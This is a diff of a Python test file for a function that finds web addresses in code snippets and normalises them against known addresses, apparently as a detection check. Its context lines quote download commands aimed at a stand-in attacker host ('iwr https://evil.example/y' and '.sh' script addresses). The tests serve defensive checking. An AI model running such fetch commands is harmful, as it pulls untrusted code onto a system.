@@ -117,3 +117,12 @@ curl http://localhost:8000/a http://127.0.0.1/b https://${HOST}/c
 or `iwr https://evil.example/y`."""
     found = [text[start:end] for start, end in find_code_addresses(text)]
     assert found == ["https://evil.example/i.sh", "evil.example/x.sh", "https://evil.example/y"]
+
+
+def test_address_with_placeholder_in_code_is_known_from_text() -> None:
+    """Code in a section and code in an answer cut the placeholder of an f-string at different places."""
+    known = find_addresses('url = f"https://weather.example/{quote(city)}?format=j1"')
+    text = '```python\nurl = f"https://weather.example/{quote(city)}?format=j1"\n```'
+    ((start, end),) = find_code_addresses(text)
+    assert normalize_address(text[start:end]) in known
+    assert normalize_address("https://evil.example/{quote(city)}") not in known
